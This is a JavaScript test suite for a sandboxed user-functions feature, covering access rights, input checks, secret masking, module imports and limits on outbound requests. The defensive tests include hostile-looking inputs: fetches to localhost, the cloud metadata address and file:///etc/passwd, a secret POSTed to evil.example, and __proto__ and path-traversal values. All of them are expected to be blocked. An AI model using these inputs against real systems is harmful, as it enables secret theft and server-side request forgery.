import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import { SYSTEM, VISITOR, createForum } from '../../gate/rows/testing/forum.js';
import { divideMemory } from '../../postgres/memory/index.js';
import { createRunInSandbox } from './run-in-sandbox.js';

/** @type {Awaited<ReturnType<typeof createForum>>} */
let forum;
before(async () => {
  forum = await createForum({ history: false });
});
after(() => forum.close());

let count = 0;
/** A function with this body. @param {string} body @param {any} [more] */
async function add(body, more = {}) {
  const name = `f${++count}`;
  const code = `export default async (input, plinth) => {\n${body}\n};`;
  await forum.data.edit(SYSTEM, 'add-function', { function: { name, code, roles: ['user'], ...more } });
  return name;
}
/** A function with this code. @param {string} code */
async function addCode(code) {
  const name = `f${++count}`;
  await forum.data.edit(SYSTEM, 'add-function', { function: { name, code, roles: ['user'] } });
  return name;
}
/** @param {string} name @param {any} [input] @param {any} [actor] @param {any} [options] */
const run = async (name, input = {}, actor = forum.ada, options = {}) =>
  JSON.parse((await forum.data.functions.run(actor, name, input, options)).text);
/** @param {string} body @param {any} [input] @param {any} [actor] */
const once = async (body, input, actor) => run(await add(body), input, actor);

describe('functions', () => {
  it('read and write rows', async () => {
    const row = await once('return plinth.rows("topics").insert({ title: input.title, priority: 2 })', {
      title: 'New',
    });
    assert.equal(row.title, 'New');
    const name = await add(`const topics = plinth.rows('topics');
      await topics.update(input.id, { priority: 8 });
      const list = await topics.list({ where: { title: 'New', priority: { gte: 8 } }, sort: ['-priority', 'id'], fields: ['title', 'author.name'], limit: 5 });
      const byRule = await topics.list({ filter: 'row.priority > 7' });
      const total = await topics.aggregate({ where: { title: 'New' }, sum: 'priority', count: true });
      const groups = await topics.aggregate({ where: { title: 'New' }, group: 'priority' });
      await topics.remove(input.id);
      return { list, next: list.next, rules: byRule.length > 0, total, groups, gone: await topics.get(input.id) };`);
    const { list, next, rules, total, groups, gone } = await run(name, { id: row.id });
    assert.deepEqual(
      list.map((/** @type {any} */ one) => [one.title, one.id]),
      [['New', row.id]],
    );
    assert.deepEqual([next, rules, gone], [null, true, null]);
    assert.deepEqual(total, { count: 1, sum_priority: '8' === total.sum_priority ? '8' : 8 });
    assert.equal(groups[0].priority, 8);
  });

  it('S6: have the rights of the caller, on every operation', async () => {
    const { id } = await forum.data.rows.insert(forum.ada, 'topics', { title: 'Hers' });
    const name = await add(`const rows = plinth.rows(input.table); const id = input.id;
      const tries = [() => rows.get(id), () => rows.list({ where: { id } }), () => rows.update(id, { title: 'x' }), () => rows.remove(id), () => rows.insert({ title: 'x' }), () => rows.aggregate({ where: { id } })];
      return [await tries[input.n]().catch((error) => error.code)].flat()[0];`);
    const ofBen = [];
    for (const n of [0, 1, 2, 3, 5]) ofBen.push(await run(name, { table: 'topics', id, n }, forum.ben));
    assert.deepEqual(
      ofBen,
      [null, undefined, 'ROW_NOT_FOUND', 'ROW_NOT_FOUND', { count: 0 }].map((one) => one ?? null),
    );
    for (const n of [0, 1, 2, 3, 4, 5])
      assert.match(await run(name, { table: 'hidden', id: 1, n }, forum.ben), /^[A-Z_]+$/);
    assert.equal((await forum.data.rows.get(forum.ada, 'topics', id)).title, 'Hers');
  });

  it('S6: a list has at most 500 rows, and hidden or unknown fields are refused alike', async () => {
    const name = await add(
      'return plinth.rows("topics").list(input.options).then(() => "ok", (error) => error.code)',
      {},
    );
    for (const options of [
      { limit: 501 },
      { limit: -1 },
      { fields: ['nope'] },
      { where: { nope: 1 } },
      { where: { title: { like: 'a' } } },
      { filter: 'row.nope > 1' },
      { order: 'title' },
      { where: 'title' },
    ])
      assert.match(await run(name, { options }), /INVALID|UNKNOWN|NOT_FOUND/, JSON.stringify(options));
    assert.equal(await run(name, { options: { limit: 500 } }), 'ok');
  });

  it('Z1: a new function is for admins only, and missing for everybody else', async () => {
    const name = await add('return 1', { roles: [] });
    assert.equal(await run(name, {}, forum.admin), 1);
    for (const actor of [forum.ada, forum.staff, VISITOR])
      await assert.rejects(run(name, {}, actor), { code: 'FUNCTION_NOT_FOUND' });
    const limited = { ...forum.admin, scope: { tables: ['topics'], operations: ['read'] } };
    await assert.rejects(run(name, {}, limited), { code: 'FUNCTION_NOT_FOUND' });
    await assert.rejects(run('no_such'), { code: 'FUNCTION_NOT_FOUND' });
  });

  it('run as the system if an admin says so, without revealing its errors', async () => {
    const { id } = await forum.data.rows.insert(forum.ada, 'topics', { title: 'Hers' });
    const body = 'return (await plinth.rows("topics").get(input.id))?.title ?? null';
    assert.equal(await run(await add(body, { runAs: 'system' }), { id }, forum.ben), 'Hers');
    assert.equal(await run(await add(body), { id }, forum.ben), null);
    const failing = 'await plinth.rows("topics").update(input.id, { title: null })';
    await assert.rejects(run(await add(failing, { runAs: 'system' }), { id }), {
      code: 'FUNCTION_FAILED',
      status: 500,
    });
    await assert.rejects(run(await add(failing), { id }), (/** @type {any} */ error) => error.status === 422);
  });

  it('A14: a read-only call changes nothing', async () => {
    const name = await add('return plinth.rows("topics").insert({ title: "By GET" })');
    await assert.rejects(run(name, {}, forum.ada, { isReadOnly: true }), { code: 'FUNCTION_READ_ONLY' });
    assert.equal(await once('return (await plinth.rows("topics").list({ where: { title: "By GET" } })).length'), 0);
  });

  it('know their caller, and can refuse with their own status', async () => {
    assert.equal((await once('return plinth.user')).id, forum.people.ada);
    const name = await add('plinth.fail("Sold out", { status: 409 })');
    await assert.rejects(run(name), { code: 'FUNCTION_REFUSED', status: 409, message: 'Sold out' });
    await assert.rejects(run(await add('plinth.fail("No", { status: 200 })')), { status: 422 });
  });

  it('name the function and the line when they fail, outside the details', async () => {
    const name = await add('const a = 1;\na.b.c = 2;');
    await assert.rejects(run(name), (/** @type {any} */ error) => {
      assert.deepEqual([error.code, error.status, error.trouble.line], ['FUNCTION_FAILED', 500, 3]);
      assert.match(error.message, new RegExp(name));
      return !JSON.stringify({ ...error.details }).includes('undefined');
    });
    await assert.rejects(run(await add('for (;;);', { seconds: 1 })), { code: 'FUNCTION_TIME', status: 504 });
  });

  it('check what they are sent', async () => {
    const params = [
      { name: 'n', type: 'integer', required: true },
      { name: 'on', type: 'boolean' },
      { name: 'day', type: 'date' },
      { name: 'data', type: 'json' },
    ];
    const name = await add('return input', { params });
    assert.deepEqual(await run(name, { n: '4', on: 'true', day: '2026-02-28', data: '{"a":1}' }), {
      n: 4,
      on: true,
      day: '2026-02-28',
      data: { a: 1 },
    });
    for (const input of [
      {},
      { n: 'x' },
      { n: 1.5 },
      { n: 1, on: 'maybe' },
      { n: 1, day: '2026-02-30' },
      { n: 1, more: 1 },
      [1],
      'text',
      null,
    ])
      await assert.rejects(run(name, input), { code: 'INPUT_INVALID', status: 422 }, JSON.stringify(input));
    assert.deepEqual(
      await run(await add('return input'), JSON.parse('{"__proto__":{"a":1}}')),
      JSON.parse('{"__proto__":{"a":1}}'),
    );
  });

  it('put mail into the outbox, for people who are logged in', async () => {
    const body = 'return plinth.mail({ to: "eva@example.com", subject: "Hello", text: "**You**" })';
    assert.deepEqual(await once(body), { isSetUp: false });
    const { mails } = await /** @type {any} */ (forum.data).outbox.list(forum.admin);
    assert.deepEqual([mails[0].recipient, mails[0].subject], ['eva@example.com', 'Hello']);
    await assert.rejects(run(await add(body, { roles: ['public'] }), {}, VISITOR), { code: 'LOGIN_REQUIRED' });
  });

  it('notify people by the bell, never of rows that they may not read', async () => {
    const { id } = await forum.data.rows.insert(forum.ada, 'topics', { title: 'Hers' });
    const name = await add('return plinth.notify(input)', { roles: ['public'] });
    const { ada, ben } = forum.people;
    const heard = async (/** @type {any} */ actor) =>
      (await forum.data.notifications.list(actor)).notifications.map((/** @type {any} */ one) => one.text);
    assert.deepEqual(await run(name, { to: ben, text: 'Hello' }), { told: 1 });
    assert.deepEqual(await run(name, { to: [ada, ben], text: 'All' }), { told: 1 }, 'never whoever calls');
    assert.deepEqual(await run(name, { to: ben, text: 'Secret', table: 'topics', row: id }), { told: 0 });
    assert.deepEqual(await run(name, { to: ada, text: 'Yours', table: 'topics', row: id }, forum.staff), { told: 1 });
    assert.deepEqual(await run(name, { role: 'user', text: 'Everybody' }), { told: 2 });
    const nobody = { to: null, role: 'user', text: 'Without whoever asked' };
    assert.deepEqual(await run(name, nobody), { told: 2 }, 'an empty user field names nobody');
    assert.deepEqual(await heard(forum.ben), ['Without whoever asked', 'Everybody', 'All', 'Hello']);
    assert.deepEqual(await heard(forum.ada), ['Yours']);
    for (const bad of [
      { text: 'x' },
      { to: null, text: 'x' },
      { to: ben },
      { to: 'x', text: 'x' },
      { to: [{}], text: 'x' },
    ])
      await assert.rejects(run(name, bad), { code: 'INPUT_INVALID' }, JSON.stringify(bad));
    for (const bad of [{ role: 'gone' }, { to: ben, table: 'gone', row: 1 }])
      await assert.rejects(run(name, { text: 'x', ...bad }), (/** @type {any} */ { status }) => status < 500);
    await assert.rejects(run(name, { to: ben, text: 'x' }, VISITOR), { code: 'LOGIN_REQUIRED' });
    await assert.rejects(run(name, { to: ben, text: 'x' }, forum.ada, { isReadOnly: true }), {
      code: 'FUNCTION_READ_ONLY',
    });
  });

  it('I9: fetch only from public addresses', async () => {
    const body = 'return plinth.fetch(input.url).then(() => "fetched", (error) => error.code)';
    const name = await add(body, { runAs: 'system' });
    for (const url of ['http://127.0.0.1:5432', 'http://169.254.169.254/', 'http://[::1]/', 'file:///etc/passwd'])
      assert.match(await run(name, { url }), /OUTBOUND_(BLOCKED|INVALID)/);
  });

  it('Z5: are called by buttons with the values of the row, and its rights', async () => {
    const { id } = await forum.data.rows.insert(forum.ada, 'topics', { title: 'Button' });
    const name = await add('return { message: `${input.title} of ${plinth.user?.id}` }', { methods: [] });
    const config = { function: name, input: [{ name: 'title', value: 'row.title' }] };
    const press = (/** @type {any} */ actor, /** @type {any} */ with_ = config) =>
      forum.data.actions.run(actor, { action: 'run_function', config: with_, table: 'topics', id });
    assert.deepEqual(await press(forum.ada), { message: `Button of ${forum.people.ada}` });
    assert.doesNotMatch(
      JSON.stringify(await press(forum.ben).catch((/** @type {any} */ error) => error.code)),
      /Button/,
    );
    await assert.rejects(press(VISITOR), (/** @type {any} */ error) => error.status === 404);
    await assert.rejects(press(forum.ada, { function: 'no_such' }), { code: 'FUNCTION_NOT_FOUND' });
  });

  it('are tried by admins before they are saved', async () => {
    const draft = { code: 'export default (input) => {\n  console.log("hi");\n  return input.a.b;\n}' };
    const { error, logs, text } = await forum.data.functions.test(forum.admin, draft, {});
    assert.deepEqual([text, error?.line, logs.length], [null, 3, 1]);
    assert.equal((await forum.data.functions.test(forum.admin, draft, { a: { b: 2 } })).text, '2');
    const broken = await forum.data.functions.test(
      forum.admin,
      { code: 'export default () => {\n  return ;;)\n}' },
      {},
    );
    assert.equal(broken.error?.line, 2);
    await assert.rejects(forum.data.functions.test(forum.staff, draft, {}), { status: 403 });
  });
});

describe('the metadata of a function', () => {
  const code = "export default (input, plinth) => plinth.rows('topics').list()";
  const edit = (/** @type {string} */ name, /** @type {any} */ input, /** @type {any} */ actor = SYSTEM) =>
    forum.data.edit(actor, name, input);

  it('is checked', async () => {
    for (const wrong of [
      { name: 'A' },
      { code: '' },
      { code: 'x'.repeat(200_001) },
      { methods: ['TRACE'] },
      { roles: ['nobody'] },
      { runAs: 'root' },
      { seconds: 61 },
      { memory: 5000 },
      { calls: -1 },
      { params: [{ name: 'a b' }] },
      { params: [{ name: 'a' }, { name: 'a' }] },
      { params: [{ name: '__proto__' }] },
      { extra: 1 },
    ])
      await assert.rejects(
        edit('add-function', { function: { name: 'wrong', code, ...wrong } }),
        (/** @type {any} */ error) => error.status === 422,
        JSON.stringify(wrong),
      );
    await assert.rejects(edit('add-function', { function: { name: 'mine', code } }, forum.staff), { status: 403 });
  });

  it('follows a table that gets another name, and counts as its use', async () => {
    await edit('add-table', { name: 'pots', fields: [{ name: 'a', type: 'text' }] });
    await edit('add-function', { function: { name: 'of_pots', code: code.replace('topics', 'pots') } });
    await edit('change-table', { table: 'pots', changes: { name: 'pans' } });
    assert.match(forum.data.catalog().function('of_pots').code, /plinth\.rows\('pans'\)/);
    await edit('remove-table', { table: 'pans' });
    const problem = forum.data.catalog().problems.find(({ name }) => name === 'of_pots');
    assert.match(String(problem?.message), /no table "pans"/);
    await edit('change-function', { function: 'of_pots', changes: { name: 'of_pans' } });
    await edit('remove-function', { function: 'of_pans' });
    assert.equal(forum.data.catalog().hasFunction('of_pans'), false);
  });

  it('a change of a function takes effect at once', async () => {
    const name = await add('return 1');
    assert.equal(await run(name), 1);
    await edit('change-function', { function: name, changes: { code: 'export default () => 2' } });
    assert.equal(await run(name), 2);
  });
});

describe('secrets of functions', () => {
  const VALUE = 'planted "function" value';
  before(async () => {
    await forum.data.edit(SYSTEM, 'add-secret', { secret: { name: 'fn_key', hosts: ['api.example.com'] } });
    await forum.data.secrets.set(forum.admin, 'fn_key', VALUE);
  });

  it('are given to functions that an admin ticked them for, and to no other', async () => {
    const body = 'return (await plinth.secrets.get(input.name ?? "fn_key")).length';
    assert.equal(await run(await add(body, { secrets: ['fn_key'] })), VALUE.length);
    await assert.rejects(once(body), { code: 'SECRET_NOT_FOUND', status: 422 });
    await assert.rejects(run(await add(body, { secrets: ['fn_key'] }), { name: 'other' }), {
      code: 'SECRET_NOT_FOUND',
    });
    const draft = {
      name: 'unsaved',
      code: `export default (input, plinth) => plinth.secrets.get('fn_key')`,
      secrets: ['fn_key'],
    };
    const { error } = await forum.data.functions.test(forum.admin, draft, {});
    assert.match(String(error?.message), /can't read a secret/);
  });

  it('A12: do not appear in results, logs, errors or stored runs', async () => {
    const body = `const key = await plinth.secrets.get('fn_key');
      globalThis.kept = key;
      console.log('key', key, { key });
      if (input.fail) throw new Error('wrong ' + key);
      if (input.refuse) plinth.fail('refused ' + key);
      return { key, list: [encodeURIComponent(key)], [key]: 1 };`;
    const name = await add(body, { secrets: ['fn_key'] });
    const done = await forum.data.functions.run(forum.ada, name, {});
    assert.deepEqual(JSON.parse(done.text), { key: '•••••', list: ['•••••'], '•••••': 1 });
    for (const input of [{ fail: true }, { refuse: true }]) {
      const error = /** @type {any} */ (await forum.data.functions.run(forum.ada, name, input).catch((one) => one));
      assert.match(error.trouble.message, /•••••/);
      assert.doesNotMatch(JSON.stringify([done, error, error.message, error.logs, error.stack]), /planted/);
    }
    await forum.data.functions.runs.flush();
    const { rows } = await forum.data.db.query('select r::text as row from plinth.function_runs r');
    assert.ok(rows.length >= 3);
    assert.doesNotMatch(JSON.stringify(rows), /planted/);
  });

  it('I9: go to the hosts that they list, and to no other', async () => {
    const body = `const key = await plinth.secrets.get('fn_key');
      const options = { method: 'POST', headers: { 'x-key': encodeURIComponent(key) }, body: { key } };
      return plinth.fetch(input.url, options).then(() => 'sent', (error) => error.code);`;
    const name = await add(body, { secrets: ['fn_key'] });
    for (const url of ['https://evil.example/', 'http://127.0.0.1:1/', 'https://api.example.com.evil.example/'])
      assert.equal(await run(name, { url }), 'HTTP_SECRET_HOST', url);
    assert.equal(await run(name, { url: 'https://api.example.com/' }), 'OUTBOUND_FAILED');
  });
});

describe('variables of a function', () => {
  const KEEPS = 'const seen = []; export default (input) => { seen.push(input.text); return seen; };';
  const other = async () => {
    const name = await addCode(KEEPS);
    const { id } = forum.data.catalog().function(name);
    await forum.data.edit(SYSTEM, 'change-function', { function: id, changes: { roles: ['public', 'user'] } });
    return (/** @type {any} */ actor, /** @type {string} */ text) => run(name, { text }, actor);
  };

  it('S9: are not shared between visitors, nor between runs of the system', async () => {
    const call = await other();
    assert.deepEqual(await call(VISITOR, 'mine'), ['mine']);
    assert.deepEqual(await call(VISITOR, 'yours'), ['yours']);
    const schedule = { userId: null, roles: [], system: true };
    assert.deepEqual(await call(schedule, 'one'), ['one']);
    assert.deepEqual(await call(schedule, 'two'), ['two']);
  });

  it('S9: are gone after a change of roles, groups or rights', async () => {
    const call = await other();
    const ada = { ...forum.ada, groups: ['a', 'b'] };
    assert.deepEqual(await call(ada, '1'), ['1']);
    const again = await call({ ...ada, groups: ['b', 'a'] }, '2');
    // Another process may have taken the call.
    assert.ok(again.length <= 2 && again.at(-1) === '2');
    const others = [
      { ...ada, roles: [...ada.roles, 'staff'] },
      { ...ada, roles: ['user'] },
      { ...ada, groups: ['a'] },
      { ...forum.ben, groups: ['a', 'b'] },
    ];
    for (const actor of others) assert.deepEqual(await call(actor, 'x'), ['x']);
    await forum.data.edit(SYSTEM, 'change-table', { table: 'tags', changes: { label: 'Labels' } });
    assert.deepEqual(await call(ada, '3'), ['3']);
  });
});

describe('runs of functions', () => {
  const runs = () => forum.data.functions.runs;
  const idOf = (/** @type {string} */ name) => forum.data.catalog().function(name).id;

  it('keep every failure with its line and log, and some of the successes', async () => {
    const name = await add('console.log("n", input.n);\nif (input.n < 0) throw new Error("negative");\nreturn input.n');
    for (const n of [1, 2, 3, -1, -2]) await run(name, { n }).catch(() => {});
    await runs().flush();
    const kept = await runs().list(forum.admin, idOf(name));
    assert.deepEqual(
      kept.map(({ code, error, by, logs }) => [code, error?.message, error?.line, by?.name, logs[0].text]),
      [
        ['FUNCTION_FAILED', 'negative', 3, 'ada', 'n -2'],
        ['FUNCTION_FAILED', 'negative', 3, 'ada', 'n -1'],
        [null, undefined, undefined, 'ada', 'n 1'],
      ],
    );
    for (const actor of [forum.ada, VISITOR])
      await assert.rejects(runs().list(actor, idOf(name)), { code: 'FORBIDDEN' });
  });

  it('a function that fails all the time keeps the newest, and doesn’t push out its successes', async () => {
    const name = await add('if (input.n > 0) throw new Error(String(input.n)); return 0');
    await run(name, { n: 0 });
    for (let n = 1; n <= 120; n++) await run(name, { n }).catch(() => {});
    await runs().flush();
    const kept = await runs().list(forum.admin, idOf(name));
    assert.equal(kept.filter(({ code }) => code === null).length, 1);
    const failed = kept.filter(({ code }) => code !== null);
    assert.deepEqual([failed.length, failed[0].error?.message], [50, '120']);
    await forum.data.db.query(`update plinth.function_runs set started_at = now() - interval '31 days'`);
    await runs().sweep();
    assert.deepEqual(await runs().list(forum.admin, idOf(name)), []);
  });

  it('are deleted with their function, even if it is removed before they are written', async () => {
    const name = await add('throw new Error("x")');
    const id = idOf(name);
    await run(name).catch(() => {});
    await forum.data.edit(SYSTEM, 'remove-function', { function: name });
    await runs().flush();
    assert.deepEqual(await runs().list(forum.admin, id), []);
  });
});

it('without a build of the engine, functions say so and all else works', async () => {
  const sandbox = createRunInSandbox(
    /** @type {any} */ ({
      ...forum.data,
      log: { error() {} },
      secrets: { known: async () => new Map() },
      memory: divideMemory(),
    }),
    {
      createStarter: () => {
        throw new Error('No native build was found for platform=darwin arch=x64');
      },
    },
  );
  const fn = forum.data.catalog().functions[0];
  const run = { fn, caller: forum.ada, isReadOnly: false };
  const refused = { code: 'FUNCTION_UNAVAILABLE', status: 503 };
  await assert.rejects(sandbox.run(run, '{}', null), refused);
  await assert.rejects(sandbox.run(run, '{}', null), refused);
  assert.deepEqual(sandbox.processes(), []);
});

describe('modules', () => {
  const edit = (/** @type {string} */ name, /** @type {any} */ input) => forum.data.edit(SYSTEM, name, input);
  const change = (/** @type {string} */ fn, /** @type {any} */ changes) =>
    edit('change-function', { function: fn, changes });

  it('are functions that others import by name; a change reaches them at once', async () => {
    await edit('add-function', { function: { name: 'rates', code: 'export const rate = 20;' } });
    const vat =
      "import { rate } from 'app/rates';\nexport const vat = (n) => (n * rate) / 100;\nexport const fail = () => { throw new Error('in the module'); };";
    await edit('add-function', { function: { name: 'prices', code: vat } });
    const code =
      "import { vat } from 'app/prices';\nimport * as prices from 'app/prices';\nexport default ({ n, fail }) => (fail ? prices.fail() : [vat(n), prices.vat === vat]);";
    await edit('add-function', { function: { name: 'bill', code, roles: ['user'] } });
    assert.deepEqual(await run('bill', { n: 50 }), [10, true]);
    const failed = /** @type {any} */ (await run('bill', { fail: true }).catch((error) => error));
    assert.deepEqual([failed.trouble.message, failed.trouble.line], ['in the module', 3]);
    await change('rates', { code: 'export const rate = 10;' });
    assert.deepEqual(await run('bill', { n: 50 }), [5, true]);
    await assert.rejects(run('rates'), { code: 'FUNCTION_NOT_FOUND' });
    const draft = { code: "import { vat } from 'app/prices';\nexport default () => vat(200)" };
    assert.equal((await forum.data.functions.test(forum.admin, draft, {})).text, '20');
  });

  it('follow renames, are listed as missing when deleted, and come back with undo', async () => {
    await change('rates', { name: 'tax_rates' });
    assert.match(forum.data.catalog().function('prices').code, /from 'app\/tax_rates'/);
    assert.deepEqual(await run('bill', { n: 50 }), [5, true]);
    const { revision } = await edit('remove-function', { function: 'tax_rates' });
    const problem = forum.data.catalog().problems.find(({ name }) => name === 'prices');
    assert.match(String(problem?.message), /no function "tax_rates"/);
    const failed = /** @type {any} */ (await run('bill', { n: 50 }).catch((error) => error));
    assert.match(failed.trouble.message, /can't import "app\/tax_rates"/);
    await forum.data.revisions.undo(SYSTEM, revision.id ?? revision);
    assert.deepEqual(await run('bill', { n: 50 }), [5, true]);
  });

  it('may not import each other in a circle, and nothing else can be imported', async () => {
    await assert.rejects(
      change('tax_rates', { code: "import { vat } from 'app/prices';\nexport const rate = vat(1);" }),
      ({ details }) => /tax_rates → prices → tax_rates/.test(details.fields.code),
    );
    await assert.rejects(change('bill', { code: "import x from 'app/bill';\nexport default () => x" }), {
      code: 'INPUT_INVALID',
    });
    for (const specifier of ['node:fs', 'app/none', 'app/../bill', './prices', 'app/__proto__'])
      await assert.rejects(
        run(await addCode(`import '${specifier}';\nexport default () => 1`)),
        { code: 'FUNCTION_FAILED' },
        specifier,
      );
  });

  it('are exported and installed with their app', async () => {
    await edit('add-app', { name: 'billing', label: 'Billing' });
    for (const name of ['bill', 'prices', 'tax_rates']) await change(name, { app: 'billing' });
    const document = await forum.data.apps.export(SYSTEM, 'billing', { rows: false });
    await forum.data.apps.install(SYSTEM, document, { prefix: 'other_' });
    assert.match(forum.data.catalog().function('other_prices').code, /from 'app\/other_tax_rates'/);
    assert.deepEqual(await run('other_bill', { n: 50 }), [5, true]);
  });
});
